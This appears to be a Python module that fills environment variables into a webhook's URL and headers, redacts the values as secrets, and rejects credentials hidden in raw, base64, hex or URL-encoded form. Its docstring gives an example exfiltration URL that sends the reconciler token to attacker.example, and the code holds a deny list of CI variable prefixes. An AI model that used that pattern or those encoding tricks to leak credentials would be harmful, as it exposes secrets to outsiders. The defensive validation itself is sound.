"""The webhook's `${VAR}` references filled from the environment, as secrets, and checked.

Every value taken from a variable is a secret wherever it lands: a header value whole, the URL
with the variable's part shown as `(sensitive value)`, and the variable's own value registered
with the redaction (a service that echoes the bare value must not print it). The reconciler's
own credentials and the CI's variables are never filled in: a pull request that writes
`url: https://attacker.example/?t=${RECONCILER_TOKEN}` is an error at its line, before any
request. Nor is a variable of another name whose value holds a credential (the token, the
password from the environment or `--password-file`, the plan key) anywhere inside it, as it is
or in a form the reconciler sends or a value usually travels in: `Bearer <token>`, the base64
of `email:password` (`Basic ...`), base64, hex or URL encoding of a credential; nor a value
that holds one only once several variables are put together. What the service would refuse
(an empty header value, which is what CI passes for a missing secret, a line break, a value or
URL over its limit) is said here, after filling, rather than by an apply that has already
changed workers.
"""

from __future__ import annotations

import base64
import binascii
import re
import string
import urllib.parse
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from reconciler import redaction
from reconciler.desired.interpolate import Confined, InterpolationError, interpolate, references
from reconciler.desired.model import WebhookHeader
from reconciler.desired.problems import PathProblem, YamlPath
from reconciler.desired.rules import webhook_url_problem
from reconciler.desired.values import FileValues
from reconciler.secrets import Secret, webhook_url
from reconciler.words import counted

#: Variables that are never interpolated: the reconciler's own settings and the CI's.
DENIED_PREFIXES = ("RECONCILER_", "GITHUB_", "ACTIONS_", "RUNNER_")
#: Variables that hold a credential of the reconciler itself, whatever the file names.
CREDENTIAL_VARIABLES = ("RECONCILER_TOKEN", "RECONCILER_PASSWORD", "RECONCILER_PLAN_KEY")
EMAIL_VARIABLE = "RECONCILER_EMAIL"
#: The service's limits (service-contract.md, and the sandbox's "where the contract leaves room").
MAX_URL = 2048
MAX_HEADER_VALUE = 1024


@dataclass(frozen=True, slots=True)
class FilledWebhook:
    """The webhook's url and headers with their `${VAR}` references filled."""

    name: str
    url: str | Secret
    headers: tuple[WebhookHeader, ...]


class EveryName(Mapping[str, str]):
    """An environment that has every variable, empty: references are checked by name only
    (`within`: only the names an account may read, each empty)."""

    def __init__(self, within: Confined | None = None) -> None:
        self.within = within

    def __getitem__(self, name: str) -> str:
        return ""

    def __contains__(self, name: object) -> bool:
        return True

    def __iter__(self) -> Iterator[str]:
        return iter(())

    def __len__(self) -> int:
        return 0


def fill_webhook(
    files: list[FileValues], environ: Mapping[str, str], credentials: Iterable[str] = ()
) -> tuple[FilledWebhook | None, list[tuple[str, PathProblem]]]:
    """The filled webhook of the one file that gives it, or the problems filling it.

    `credentials` are values no variable may hold (the token read from `--token-file`, say),
    beside those of `CREDENTIAL_VARIABLES`.
    """
    for values in files:
        webhook = values.data.get("webhook")
        if isinstance(webhook, dict):
            return _Filler(values.name, environ, credentials).webhook(webhook)
    return None, []


class _Filler:
    def __init__(self, name: str, environ: Mapping[str, str], credentials: Iterable[str]) -> None:
        self.name = name
        self.environ = environ
        self.names_only = isinstance(environ, EveryName)
        found = [value for value in credentials if value]
        if not self.names_only:
            found += [environ[n] for n in CREDENTIAL_VARIABLES if environ.get(n)]
        self.forbidden = _forbidden_forms(found, environ.get(EMAIL_VARIABLE, "").strip())
        self.problems: list[tuple[str, PathProblem]] = []

    def fail(self, path: YamlPath, message: str) -> None:
        self.problems.append((self.name, PathProblem(path, message)))

    def webhook(
        self, webhook: dict[str, Any]
    ) -> tuple[FilledWebhook | None, list[tuple[str, PathProblem]]]:
        url = self.url(webhook.get("url"))
        headers = []
        raw_headers = webhook.get("headers")
        for index, header in enumerate(raw_headers if isinstance(raw_headers, list) else []):
            if isinstance(header, dict) and isinstance(header.get("name"), str):
                value = self.header_value(header.get("value"), index)
                if value is not None:
                    headers.append(WebhookHeader(header["name"], value))
        if self.problems or url is None:
            return None, self.problems
        return FilledWebhook(self.name, url, tuple(headers)), []

    def fill(self, text: str, path: YamlPath) -> str | None:
        """`text` filled, or None (and a problem) when a reference cannot or must not be."""
        refused = False
        for variable in references(text):
            if reason := self.refusal(variable):
                self.fail(path, reason)
                refused = True
        if refused:
            return None
        try:
            filled = interpolate(text, self.environ)
        except InterpolationError as error:
            self.fail(path, str(error))
            return None
        if not self.names_only:
            if self.holds_credential(filled) and not self.holds_credential(text):
                self.fail(
                    path,
                    "holds one of the reconciler's own credentials (its token, password or plan "
                    "key) once its variables are filled in, which is never put into the webhook",
                )
                return None
            for variable in references(text):
                redaction.register_secret(self.environ[variable])  # the bare value, too
        return filled

    def refusal(self, variable: str) -> str | None:
        confined = self.environ.within if isinstance(self.environ, EveryName) else self.environ
        if isinstance(confined, Confined) and (reason := confined.refusal(variable)):
            return reason
        if variable.startswith(DENIED_PREFIXES):
            return (
                f"${{{variable}}} cannot be used: the reconciler's own settings and the CI's "
                f"variables ({', '.join(p + '*' for p in DENIED_PREFIXES)}) are never put "
                "into the webhook"
            )
        if not self.names_only and self.holds_credential(self.environ.get(variable)):
            return (
                f"${{{variable}}} holds one of the reconciler's own credentials (its token, "
                "password or plan key), which are never put into the webhook"
            )
        return None

    def holds_credential(self, value: str | None) -> bool:
        """Whether `value` is, or holds inside it, a credential in any of its forms: as it is,
        encoded, or inside anything the value carries encoded (`Basic` of another user and the
        token, base64 of a JSON text holding the password)."""
        if not value:
            return False
        exact, inside = self.forbidden
        if value in exact:
            return True
        raw = tuple(each for each in exact if len(each) >= MIN_HELD)
        return any(
            any(form in view for form in inside) or any(each in view for each in raw)
            for view in decoded_views(value)
        )

    def url(self, raw: object) -> str | Secret | None:
        if not isinstance(raw, str):
            return None
        path = ("webhook", "url")
        filled = self.fill(raw, path)
        if filled is None:
            return None
        if self.names_only and references(raw):
            return raw  # checked by name only; the model keeps the template
        url = webhook_url(Secret(filled, template=raw)) if references(raw) else filled
        if len(filled) > MAX_URL:
            length, most = counted(len(filled)), counted(MAX_URL)
            self.fail(path, f"is {length} characters once filled in; at most {most}")
        elif reason := webhook_url_problem(filled, shown=str(url)):
            self.fail(path, reason)
        return url

    def header_value(self, raw: object, index: int) -> Secret | None:
        if not isinstance(raw, str):
            return None
        path: YamlPath = ("webhook", "headers", index, "value")
        filled = self.fill(raw, path)
        if filled is None:
            return None
        template = raw if references(raw) else None
        if self.names_only:
            return Secret(raw, template=template)
        if reason := _header_value_problem(filled, from_variable=template is not None):
            self.fail(path, reason)
            return None
        redaction.register_secret(filled)  # from here on, no log line can carry it
        return Secret(filled, template=template)


#: A credential shorter than this is not looked for inside decoded text (chance would find it).
MIN_HELD = 6
_ENCODED_RUN = re.compile(r"[A-Za-z0-9+/_=%-]{8,}")


def decoded_views(value: str, depth: int = 2) -> Iterator[str]:
    """`value`, then what each long run of it decodes to as URL encoding, hex or base64 (plain
    or URL-safe, padded or not), and what those decode to in turn, `depth` layers down."""
    yield value
    if depth == 0:
        return
    for run in _ENCODED_RUN.findall(value):
        for text in _decodings(run):
            if text != run:
                yield from decoded_views(text, depth - 1)


def _decodings(run: str) -> Iterator[str]:
    if "%" in run:
        yield urllib.parse.unquote(run)
    if len(run) % 2 == 0 and all(c in string.hexdigits for c in run):
        yield bytes.fromhex(run).decode("utf-8", "replace")
    padded = run.rstrip("=") + "=" * (-len(run.rstrip("=")) % 4)
    for alphabet in (b"+/", b"-_"):
        try:
            decoded = base64.b64decode(padded, altchars=alphabet, validate=True)
        except (binascii.Error, ValueError):
            continue
        yield decoded.decode("utf-8", "replace")


def _forbidden_forms(credentials: Iterable[str], email: str) -> tuple[set[str], tuple[str, ...]]:
    """Each credential as it is, and the forms it is sent or travels in: (values refused when
    a variable equals them, forms refused anywhere inside a variable's value)."""
    exact: set[str] = set()
    inside: set[str] = set()
    for value in credentials:
        for each in {value, value.strip()}:
            exact.add(each)
            inside |= _encodings(each)  # Bearer <token> holds the token; Basic, its base64
            if email:
                inside |= _encodings(f"{email}:{each}")  # HTTP Basic of the login
    return exact, tuple(sorted(inside, key=len, reverse=True))


def _encodings(value: str) -> set[str]:
    """`value` as it is and in the encodings a variable could carry it in (URL, hex, base64
    and URL-safe base64 with and without padding), each at least 4 characters long."""
    raw = value.encode()
    forms = {
        value,
        urllib.parse.quote(value, safe=""),
        urllib.parse.quote_plus(value),
        raw.hex(),
        raw.hex().upper(),
    }
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        encoded = encode(raw).decode()
        forms.add(encoded)
        forms.add(encoded.rstrip("="))
    return {form for form in forms if len(form) >= 4}


def _header_value_problem(value: str, *, from_variable: bool) -> str | None:
    """Why the service would refuse this header value (never showing it), or None."""
    if not value.strip():
        if from_variable:
            return (
                "is empty once filled in (a CI secret that does not exist is passed as an "
                "empty value); the service refuses a blank header value"
            )
        return "must not be blank"
    if any(char in value for char in "\r\n\0"):
        return "must not contain a line break or a NUL character (once filled in)"
    if len(value) > MAX_HEADER_VALUE:
        length, most = counted(len(value)), counted(MAX_HEADER_VALUE)
        return f"is {length} characters once filled in; the service takes {most}"
    return None
